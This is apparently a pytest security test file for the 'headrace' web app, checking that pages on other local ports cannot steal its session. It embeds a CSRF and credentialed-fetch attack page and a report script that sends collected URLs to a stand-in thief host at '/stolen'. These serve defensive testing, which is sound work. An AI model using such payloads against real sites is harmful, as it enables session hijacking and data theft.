"""Pages of another program on this machine, in the browser that has a session of ``headrace serve``."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from headrace.web import app, sessions
from headrace.web.site import Site
from tests import browser
from tests.below import within
from tests.history import site
from tests.ports import stranger
from tests.served import on_loopback
from tests.waiting import until

KEY = "key"
#: Pages that a program on another port may lead the browser to.
TRAPS = ("/", "/queries", "/~/", "/login", "/report/x")
#: All that a page can have the browser send to the pages of headrace, and whether it may read an answer.
ATTACK = """
<form method="post" action="URL/logout" target="nowhere"><input name="token" value=""></form>
<iframe name="nowhere"></iframe><iframe src="URL/"></iframe><img src="URL/queries">
<script src="URL/api/hosts.json"></script>
<script>
window.read = [];
window.done = (async () => {
  for (const path of ["/", "/queries", "/api/hosts.json", "/live?host=db1", "/login?next=/queries"])
    for (const options of [{ mode: "cors" }, { mode: "no-cors" }, { mode: "no-cors", method: "POST" }])
      try {
        const answer = await fetch("URL" + path, { credentials: "include", ...options });
        read.push(answer.type + await answer.text());
      } catch (error) { read.push(""); }
  document.forms[0].submit();
  const opened = window.open("URL/queries", "theirs");
  await new Promise((done) => setTimeout(done, 1500));
  for (const each of [opened, ...Array.from(frames)])
    try { read.push(String(each.location.href)); } catch (error) { read.push(""); }
  return read;
})();
</script>
"""
#: A report of others leads the browser to the other port with all that it can find out about where it is.
REPORT = """<!doctype html><title>r</title><h1>A report</h1><script>
const known = [location.href, document.referrer, document.baseURI];
known.push(...performance.getEntries().map((each) => each.name));
try { known.push(...navigation.entries().map((each) => each.url)); } catch (error) { known.push(String(error)); }
for (const one of [parent, top, opener]) try { known.push(one.location.href); } catch (error) { known.push("no"); }
document.title = JSON.stringify(known);
location.href = "STRANGER/stolen?" + encodeURIComponent(JSON.stringify(known));
</script>"""


@pytest.fixture
def found(tmp_path: Path) -> Site:
    return site(tmp_path, key=KEY)


@pytest.fixture
def tab() -> Iterator[browser.Page]:
    with browser.page() as page:
        yield page


def at(tab: browser.Page) -> str:
    """The address of a page that has been loaded."""
    try:
        return str(tab.evaluate("document.readyState === 'complete' ? location.href : ''"))
    except RuntimeError:
        return ""  # it is on its way


def test_another_port_gets_nothing_of_the_session(found: Site, tab: browser.Page) -> None:
    with on_loopback(app.application(found, frozenset({"127.0.0.1"}))) as (url, _), stranger() as one:
        with stranger() as other:
            below = within(tab, f"{url}/enter?key={KEY}")
            private = urlsplit(below).path
            assert private.startswith("/~")
            one.page = other.page = ATTACK.replace("URL", url)
            one.cookies = ("control=1; Path=/", f"{sessions.COOKIE}=planted; Path=/")
            for port in (one, other):
                for path in TRAPS:
                    tab.open(port.url + path)
            read = tab.evaluate("window.done")
            # The browser heeds no ports: what the one gave goes to the other.
            assert any("control=1" in cookies for _, cookies in other.received)
            values = {
                part.partition("=")[2] for port in (one, other) for _, cookies in port.received
                for part in cookies.split("; ") if part.startswith(sessions.COOKIE)
            }  # fmt: skip
        assert values <= {"planted"}
        assert not any(private in text or "data-token" in text for text in read)
        assert not any(private in path for path, _ in one.received)
        # The session is as it was, beside what was planted.
        tab.open(f"{below}/queries")
        assert "local (approver)" in tab.evaluate("document.body.innerText")


def test_a_report_of_others_leads_no_other_port_to_the_session(found: Site, tab: browser.Page) -> None:
    folder = found.experiments / "e"
    (folder / "trials").mkdir(parents=True)
    (folder / "design.json").write_text("{}")
    with on_loopback(app.application(found)) as (url, _), stranger() as thief:
        (folder / "report.html").write_text(REPORT.replace("STRANGER", thief.url))
        below = within(tab, f"{url}/enter?key={KEY}")
        tab.open(f"{below}/experiment?id=e")
        tab.evaluate("document.querySelector('main a[href*=\"/experiment/report\"]').click()")
        until(lambda: any(path.startswith("/stolen") for path, _ in thief.received))
        private = urlsplit(below).path
        for path, cookies in thief.received:
            assert "%2Freport%2F" in path or not path.startswith("/stolen")
            assert private.strip("/") not in path
            assert sessions.COOKIE not in cookies


def test_a_link_without_the_path_leads_to_the_session_while_there_is_one(
    found: Site, tab: browser.Page
) -> None:
    """As those of alerts and of colleagues, and bookmarks of an earlier session."""
    with on_loopback(app.application(found)) as (url, _):
        tab.open(f"{url}/queries?range=24h#classes")
        assert urlsplit(at(tab)).path == "/login"
        below = within(tab, f"{url}/enter?key={KEY}")
        for link in (url, f"{url}/~{'x' * 22}"):
            tab.open(f"{link}/queries?range=24h#classes")
            until(lambda: at(tab) == f"{below}/queries?range=24h#classes")
            tab.evaluate("sessionStorage.clear()")
        shared = json.loads(tab.evaluate("JSON.stringify(document.querySelector('a[rel=bookmark]').href)"))
        assert shared.startswith(f"{url}/queries?")
        tab.evaluate("document.querySelector('.who button').click()")
        until(lambda: urlsplit(at(tab)).path == "/login")
        tab.open(f"{url}/queries?range=24h")
        until(lambda: urlsplit(at(tab)).path == "/login")
        # And it stays there: an ended session is tried once.
        assert (
            tab.evaluate("new Promise((done) => setTimeout(() => done(location.pathname), 700))") == "/login"
        )
